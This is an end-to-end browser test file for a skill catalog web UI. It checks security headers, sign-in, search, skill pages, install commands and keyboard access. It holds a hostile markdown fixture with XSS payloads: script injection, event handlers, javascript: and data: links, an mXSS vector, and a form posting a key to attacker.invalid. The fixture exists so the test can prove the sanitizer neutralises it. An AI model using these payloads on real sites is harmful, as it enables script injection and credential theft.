/// <reference lib="dom" />
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { EXAMPLES_DIR, OWNER_KEY, startServer, type TestServer } from './helpers/server.js';
import { focusRing, launchBrowser, openPage, signInWithKey, tabUntil, type WebPage } from './helpers/browser.js';

let server: TestServer;
let browser: Browser;
let owner: WebPage;
const keys: Record<string, string> = {};

/** Everything a skill's markdown might try against the page that shows it. */
const HOSTILE = `---
name: hostile-markdown
description: A skill whose body attacks the page that renders it
version: 1.0.0
---
# Looks harmless

<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<p onclick="window.__pwned = 'onclick'" onmouseover="window.__pwned = 'hover'">hover me</p>
[a javascript link](javascript:window.__pwned='link')
<a href="JaVaScRiPt:window.__pwned='anchor'">anchor</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<svg onload="window.__pwned = 'svg'"><script>window.__pwned = 'svg-script'</script><circle r="5"/></svg>
<!-- <script>window.__pwned = 'comment'</script> a comment aimed at the page -->
<iframe src="javascript:window.__pwned='iframe'"></iframe>
<form action="https://attacker.invalid/steal"><input name="key" value="x"><button>Send</button></form>
<div style="position:fixed;inset:0;background:red">overlay</div>
<details open ontoggle="window.__pwned='toggle'"><summary>more</summary>text</details>

Plain **bold** text survives, and [a real link](https://example.com/docs).

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__pwned='mxss'&gt;">
`;

beforeAll(async () => {
  [server, browser] = await Promise.all([startServer({ from: EXAMPLES_DIR }), launchBrowser()]);
  await mkdir(path.join(server.skillsDir, 'hostile-markdown'), { recursive: true });
  await writeFile(path.join(server.skillsDir, 'hostile-markdown', 'SKILL.md'), HOSTILE);
  for (const role of ['viewer', 'member'] as const) {
    await server.call('POST', '/api/users', { id: `u-${role}`, name: `Pat ${role}`, role });
    keys[role] = ((await (await server.call('POST', '/api/keys', { name: role, user_id: `u-${role}` })).json()) as { key: string }).key;
  }
  owner = await openPage(browser);
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe('serving the UI', () => {
  it('serves the page with a strict Content-Security-Policy and long-lived hashed assets', async () => {
    const page = await fetch(server.url + '/', { headers: { accept: 'text/html' } });
    expect(page.status).toBe(200);
    expect(page.headers.get('cache-control')).toBe('no-cache');
    const csp = page.headers.get('content-security-policy')!;
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toContain('unsafe-inline');
    const html = await page.text();
    expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
    expect(html).not.toMatch(/\sstyle=/);
    const asset = html.match(/src="(\/assets\/[^"]+\.js)"/)![1]!;
    const js = await fetch(server.url + asset, { headers: { 'accept-encoding': 'gzip' } });
    expect(js.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(js.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    const again = await fetch(server.url + asset, { headers: { 'if-none-match': js.headers.get('etag')! } });
    expect(again.status).toBe(304);
    // Client routes get the page; API paths and non-browser clients keep the JSON 404.
    expect((await fetch(server.url + '/skill/deep-research', { headers: { accept: 'text/html' } })).status).toBe(200);
    for (const p of ['/api/nope', '/.well-known/nope', '/mcp/x', '/s/abc', '/skills/nope', '/metrics/x', '/assets/missing-12345678.js']) {
      const res = await fetch(server.url + p, { headers: { accept: 'text/html' } });
      expect([res.status, res.headers.get('content-type')], p).toEqual([404, 'application/json; charset=utf-8']);
    }
    // The ClawHub API answers its own errors in plain text, as its CLI reads them.
    const clawhub = await fetch(server.url + '/clawhub/x', { headers: { accept: 'text/html' } });
    expect([clawhub.status, clawhub.headers.get('content-type')]).toEqual([404, 'text/plain; charset=utf-8']);
    expect((await fetch(server.url + '/anything')).status).toBe(404);
  });
});

describe('browsing as the owner', () => {
  it('refuses a key that is not one, then signs in with a pasted key', async () => {
    const { page } = owner;
    await page.goto(server.url + '/');
    await page.getByLabel('API key').fill('not-a-key');
    await page.getByRole('button', { name: 'Sign in with key' }).click();
    await page.getByRole('alert').filter({ hasText: 'does not look like a Skillport key' }).waitFor();
    await page.getByLabel('API key').fill(`sk_${'f'.repeat(64)}`);
    await page.getByRole('button', { name: 'Sign in with key' }).click();
    await page.getByRole('alert').filter({ hasText: 'unknown, expired or revoked' }).waitFor();
    await signInWithKey(page, server.url, OWNER_KEY);
    await expect.poll(() => page.locator('.skill-row').count()).toBeGreaterThan(3);
    expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => localStorage.getItem(k)?.includes('sk_')))).toEqual([]);
  });

  it('searches as you type and filters', async () => {
    const { page } = owner;
    await page.getByLabel('Search').fill('deep res');
    await expect.poll(() => page.url()).toContain('q=deep+res');
    await expect.poll(() => page.locator('.skill-row .skill-name').first().textContent()).toBe('deep-research');
    await page.getByLabel('Search').fill('');
    await page.getByLabel('Category').selectOption('operations');
    await expect.poll(() => page.locator('.skill-row .chip').first().textContent()).toBe('operations');
    await page.getByLabel('Scan status').selectOption('unscanned');
    await expect.poll(async () => (await page.locator('.result-count').textContent()) ?? '').toMatch(/skills?$/);
    await page.getByLabel('Search').fill('zzzz-nothing-matches');
    await page.getByText('No skill matches.').waitFor();
    await page.getByRole('button', { name: 'Clear search and filters' }).click();
    await expect.poll(() => page.locator('.skill-row').count()).toBeGreaterThan(3);
  });

  it('shows a skill: body, frontmatter, provenance, versions with a diff, files, scan and install lines', { timeout: 60_000 }, async () => {
    const { page, problems } = owner;
    await page.getByLabel('Search').fill('deep-research');
    await page.getByRole('link', { name: 'deep-research' }).first().click();
    await page.getByRole('heading', { level: 1, name: 'deep-research' }).waitFor();
    await page.locator('article.markdown h1').first().waitFor();

    await page.getByRole('tab', { name: 'Details' }).click();
    await page.locator('.kv dt', { hasText: 'Content hash' }).waitFor();
    expect(await page.locator('#panel-details').textContent()).toContain('research/deep-research.md');

    await page.getByRole('tab', { name: 'Versions' }).click();
    await page.getByLabel('From', { exact: true }).selectOption('1.0.0');
    await page.getByLabel('To', { exact: true }).selectOption('1.1.0');
    await page.locator('.diff-add').first().waitFor();
    expect(await page.locator('.diff-summary').textContent()).toMatch(/1\.0\.0 → 1\.1\.0: \+\d+ −\d+ lines/);

    await page.getByRole('tab', { name: /Scan/ }).click();
    await page.getByText(/Verdict for version 1\.1\.0/).waitFor();

    await page.getByRole('tab', { name: 'Install' }).click();
    const blocks = await page.locator('.codeblock pre').allTextContents();
    expect(blocks[0]).toBe(`npx skills add ${server.url} --skill deep-research --agent claude-code -y`);
    expect(blocks[1]).toBe(`curl -fsSL ${server.url}/api/skills/install.sh | sh -s -- --agent claude-code`);
    expect(JSON.parse(blocks[2]!).mcpServers.skillport.url).toBe(`${server.url}/mcp`);
    expect(blocks.join('\n')).not.toContain(OWNER_KEY);
    await page.getByLabel('Agent').selectOption('cursor');
    await page.getByRole('button', { name: 'Copy install script one-liner' }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`curl -fsSL ${server.url}/api/skills/install.sh | sh -s -- --agent cursor`);
    await page.getByRole('button', { name: 'Copy skills command' }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`npx skills add ${server.url} --skill deep-research --agent cursor -y`);
    await page.getByRole('button', { name: 'Copy MCP client configuration' }).click();
    expect(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())).mcpServers.skillport.headers.Authorization).toBe('Bearer ${SKILLPORT_KEY}');
    expect(problems).toEqual([]);
  });

  it('lists a skill folder’s files as a tree and shows SKILL.md', async () => {
    const { page } = owner;
    await page.goto(server.url + '/skill/incident-triage?tab=files');
    await page.getByRole('navigation', { name: 'Files' }).waitFor();
    expect(await page.locator('.tree-dir').allTextContents()).toContain('references/');
    expect(await page.locator('.file-view pre').textContent()).toContain('#');
  });

  it('renders hostile markdown as harmless text: nothing runs, nothing loads', { timeout: 40_000 }, async () => {
    const { page, problems } = owner;
    await page.goto(server.url + '/skill/hostile-markdown');
    const body = page.locator('article.markdown');
    await body.getByText('Plain').waitFor();
    // Give anything that would fire (onerror, onload, ontoggle) the chance to.
    await page.locator('article.markdown p', { hasText: 'hover me' }).hover();
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))));
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    const html = await body.innerHTML();
    // Links the sanitizer could not vouch for lose their href; what is left of them is inert text.
    expect(html).not.toMatch(/<script|<svg|<iframe|<form|<input|<math|<style|\son\w+=|(href|src)="?(javascript|data):|style=/i);
    expect(await page.evaluate(() => {
      const walker = document.createTreeWalker(document.querySelector('article.markdown')!, NodeFilter.SHOW_COMMENT);
      return walker.nextNode() === null;
    })).toBe(true);
    const hrefs = await body.locator('a[href]').evaluateAll((links) => links.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]));
    expect(hrefs).toEqual([['https://example.com/docs', 'noopener noreferrer nofollow']]);
    expect(await body.locator('strong').textContent()).toBe('bold');
    // Chromium may report the handlers it refused while the sanitizer parses the text in its inert
    // document; that is the Content-Security-Policy holding, and nothing threw or ran.
    expect(problems.filter((p) => p.startsWith('pageerror'))).toEqual([]);
  });
});

describe('roles and signing out', () => {
  it('shows a viewer the catalog but no writing or administration', async () => {
    const viewer = await openPage(browser, { colorScheme: 'dark', viewport: { width: 390, height: 800 } });
    await signInWithKey(viewer.page, server.url, keys.viewer!);
    await viewer.page.getByRole('button', { name: 'Menu' }).click();
    const nav = await viewer.page.getByRole('navigation', { name: 'Main' }).getByRole('link').allTextContents();
    expect(nav).toEqual(['Catalog', 'API keys', 'Share links']);
    await viewer.page.goto(server.url + '/admin/users');
    await viewer.page.getByText('There is no page at this address, or your role cannot open it.').waitFor();
    await viewer.context.close();
  });

  it('returns a member whose key is revoked to sign-in with a message', async () => {
    const member = await openPage(browser);
    await signInWithKey(member.page, server.url, keys.member!);
    const nav = await member.page.getByRole('navigation', { name: 'Main' }).getByRole('link').allTextContents();
    expect(nav).toEqual(['Catalog', 'Write', 'API keys', 'Share links']);
    const list = (await (await server.get('/api/keys?user_id=u-member')).json()) as { keys: Array<{ id: string }> };
    for (const key of list.keys) await server.call('DELETE', `/api/keys/${key.id}`);
    await member.page.getByRole('link', { name: 'deep-research' }).first().click();
    await member.page.getByText('Your key or session is no longer valid (it expired or was revoked). Sign in again.').waitFor();
    await member.page.getByLabel('API key').waitFor();
    expect(await member.page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain('sk_');
    await member.context.close();
  });

  it('signs out and forgets the key', async () => {
    const { page } = owner;
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('You have signed out.').waitFor();
    expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain('sk_');
    await page.reload();
    await page.getByLabel('API key').waitFor();
  });
});

describe('keyboard only', () => {
  it('signs in, searches, opens a skill, switches tabs and copies an install line without a mouse', { timeout: 60_000 }, async () => {
    const { page, context } = await openPage(browser);
    await page.goto(server.url + '/');
    await page.getByLabel('API key').waitFor();
    await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe('api-key');
    await page.keyboard.type(OWNER_KEY);
    await page.keyboard.press('Enter');
    await page.getByRole('navigation', { name: 'Main' }).waitFor();

    // The first Tab reaches the skip link, which is visible when focused and jumps to the content.
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
    expect(await focusRing(page)).toBe(true);
    await tabUntil(page, () => document.activeElement?.id === 'search');
    expect(await focusRing(page)).toBe(true);
    await page.keyboard.type('code review');
    await expect.poll(() => page.locator('.skill-row .skill-name').first().textContent()).toBe('code-review');
    await tabUntil(page, () => document.activeElement?.textContent === 'code-review');
    expect(await focusRing(page)).toBe(true);
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { level: 1, name: 'code-review' }).waitFor();

    await tabUntil(page, () => document.activeElement?.getAttribute('role') === 'tab');
    await page.keyboard.press('End');
    await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toBe('Install');
    await page.locator('#panel-install').waitFor();
    await tabUntil(page, () => document.activeElement?.getAttribute('aria-label') === 'Copy skills command');
    expect(await focusRing(page)).toBe(true);
    await page.keyboard.press('Enter');
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`npx skills add ${server.url} --skill code-review --agent claude-code -y`);
    await context.close();
  });
});
